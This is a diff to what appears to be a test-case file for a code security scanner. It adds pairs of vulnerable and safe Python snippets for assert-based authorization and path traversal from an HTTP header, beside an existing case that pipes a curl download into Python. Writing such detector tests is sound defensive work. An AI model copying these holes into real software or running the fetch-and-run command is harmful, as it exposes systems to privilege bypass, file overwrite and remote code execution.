@@ -25,6 +25,11 @@ MARKUP = """from django.utils.safestring import mark_safe
 def page(request):
     return mark_safe("<a href='?%s'>" % {})
 """
+FETCHED = """import mimetypes, requests
+def keep(url):
+    reply = requests.get(url, timeout=5)
+    return open("/tmp/image" + {}, "wb")
+"""
 COOKIE = (
     "from tornado.web import RequestHandler\nclass Page(RequestHandler):\n    def get(self):\n        {}\n"
 )
@@ -116,6 +121,16 @@ CASES = [
         "download-and-run",
         "import os\nos.system('curl https://example.org/a | python -m code')\n",
         "import os\nos.system('curl https://example.org/a | python -m json.tool')\n",
+    ),
+    (
+        "assert-for-security",
+        "def remove(user):\n    assert user.is_admin\n    drop()\n",
+        FLASK + "    assert request.json['a'] == 'b'\n    return made\n",  # no right is asked about
+    ),
+    (
+        "path-traversal",
+        FETCHED.format("reply.headers['Name']"),
+        FETCHED.format("mimetypes.guess_extension(reply.headers['Content-Type'])"),  # of a fixed table
     ),
     (
         "persistence",
